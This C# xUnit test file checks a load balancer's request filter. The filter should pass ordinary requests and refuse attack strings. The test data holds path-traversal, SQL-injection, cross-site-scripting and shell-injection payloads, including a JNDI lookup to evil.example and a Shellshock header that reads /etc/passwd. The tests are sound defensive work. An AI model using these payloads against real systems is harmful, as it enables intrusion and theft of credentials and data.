using System.Net;
using System.Text;
using ClusterLB.Node.Proxy;

namespace ClusterLB.Node.Tests.Edge;

public sealed class RequestFilteringTests(EdgeFixture fixture) : IClassFixture<EdgeFixture>
{
    private HttpClient Proxy => fixture.Node.Proxy;

    [Theory]
    [InlineData("/strict/files?name=report.pdf&id=7&sort=desc")]
    [InlineData("/strict/search?q=rock%20%26%20roll&page=2")]
    [InlineData("/strict/search?q=O%27Brien%20and%20friends")]
    [InlineData("/strict/notes?text=1%2B1%3D2%3B%20see%20page%203")]
    [InlineData("/strict/docs/v1.2/readme.md")]
    public async Task Ordinary_requests_pass_the_built_in_rules(string url)
    {
        using var response = await Proxy.GetAsync(url);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    [Theory]
    [InlineData("/strict/files/..%2F..%2Fetc%2Fpasswd", "PathTraversal")]
    [InlineData("/strict/files/%252e%252e%252fsecret", "PathTraversal")]
    [InlineData("/strict/download?file=../../etc/passwd", "PathTraversal")]
    [InlineData("/strict/download?file=..%5C..%5Cwindows%5Cwin.ini", "PathTraversal")]
    [InlineData("/strict/items?id=1%20UNION%20SELECT%20password%20FROM%20users", "SqlInjection")]
    [InlineData("/strict/login?user=admin%27%20OR%20%271%27%3D%271", "SqlInjection")]
    [InlineData("/strict/items?id=1%3B%20DROP%20TABLE%20users", "SqlInjection")]
    [InlineData("/strict/items?id=1%20AND%20SLEEP(5)", "SqlInjection")]
    [InlineData("/strict/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "CrossSiteScripting")]
    [InlineData("/strict/go?next=javascript:alert(document.cookie)", "CrossSiteScripting")]
    [InlineData("/strict/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "CrossSiteScripting")]
    [InlineData("/strict/ping?host=127.0.0.1%7C%20id", "ShellInjection")]
    [InlineData("/strict/ping?host=%24(whoami)", "ShellInjection")]
    [InlineData("/strict/lookup?name=%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D", "ShellInjection")]
    public async Task Attack_markers_in_path_and_query_are_refused_with_the_request_id(string url, string ruleSet)
    {
        using var response = await Proxy.GetAsync(url);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var requestId = Assert.Single(response.Headers.GetValues("X-Request-Id"));
        Assert.Contains(requestId, await response.Content.ReadAsStringAsync());
        Assert.Contains(fixture.Logs.Lines, l => l.Contains(requestId) && l.Contains(ruleSet + "/") && l.Contains("refused"));
    }

    [Theory]
    [InlineData("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")]
    [InlineData("User-Agent", "${jndi:ldap://evil.example/a}")]
    [InlineData("Referer", "https://example.com/?q=<script>alert(1)</script>")]
    [InlineData("X-Scanner", "sqlmap/1.7")]
    public async Task Attack_markers_in_headers_are_refused(string header, string value)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/strict/page");
        request.Headers.TryAddWithoutValidation(header, value);
        using var response = await Proxy.SendAsync(request);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Fact]
    public async Task Custom_query_rule_refuses_what_it_matches()
    {
        using var refused = await Proxy.GetAsync("/strict/page?mode=debug");
        using var passed = await Proxy.GetAsync("/strict/page?mode=debugger");

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Equal(HttpStatusCode.OK, passed.StatusCode);
    }

    [Fact]
    public async Task Method_not_in_the_allowed_list_is_answered_405_with_the_allowed_methods()
    {
        using var response = await Proxy.SendAsync(new HttpRequestMessage(HttpMethod.Delete, "/strict/orders/1"));

        Assert.Equal(HttpStatusCode.MethodNotAllowed, response.StatusCode);
        Assert.Equal("GET, POST", response.Content.Headers.Allow.Count > 0 ? string.Join(", ", response.Content.Headers.Allow) : "");
    }

    [Fact]
    public async Task Body_over_the_maximum_size_is_answered_413_and_a_body_within_it_passes()
    {
        using var large = await Proxy.PostAsync("/strict/upload", new StringContent(new string('x', 1001), Encoding.UTF8, "text/plain"));
        using var small = await Proxy.PostAsync("/strict/upload", new StringContent(new string('x', 1000), Encoding.UTF8, "text/plain"));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, large.StatusCode);
        Assert.Equal(HttpStatusCode.OK, small.StatusCode);
    }

    [Fact]
    public async Task Client_in_a_denied_network_is_refused()
    {
        using var response = await Proxy.GetAsync("/deny/anything");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("RequestFiltered", Assert.Single(response.Headers.GetValues(ProxyErrorResponses.ErrorHeader)));
    }

    [Fact]
    public async Task Client_in_an_allowed_network_passes_and_one_outside_it_is_refused()
    {
        using var allowed = await Proxy.GetAsync("/allow/anything");
        using var outside = await Proxy.GetAsync("/elsewhere/anything");

        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, outside.StatusCode);
    }

    [Fact]
    public async Task Forwarded_for_header_from_an_untrusted_client_does_not_change_its_address()
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/elsewhere/anything");
        request.Headers.Add("X-Forwarded-For", "192.0.2.10");
        using var response = await Proxy.SendAsync(request);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Fact]
    public async Task Observe_only_filter_lets_the_request_through_and_logs_what_it_would_refuse()
    {
        using var response = await Proxy.GetAsync("/observing/items?id=1%20UNION%20SELECT%20secret");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var requestId = Assert.Single(response.Headers.GetValues("X-Request-Id"));
        Assert.Contains(fixture.Logs.Lines, l => l.Contains(requestId) && l.Contains("observe only") && l.Contains("SqlInjection/union-select"));
    }

    [Theory]
    [InlineData("/plain/.git/config")]
    [InlineData("/strict/.env")]
    [InlineData("/nowhere/.git/HEAD")]
    public async Task Filter_for_all_routes_applies_to_every_route(string path)
    {
        using var response = await Proxy.GetAsync(path);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Fact]
    public async Task Route_without_a_filter_only_gets_the_filter_for_all_routes()
    {
        using var response = await Proxy.GetAsync("/plain/items?id=1%20UNION%20SELECT%20secret");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }
}
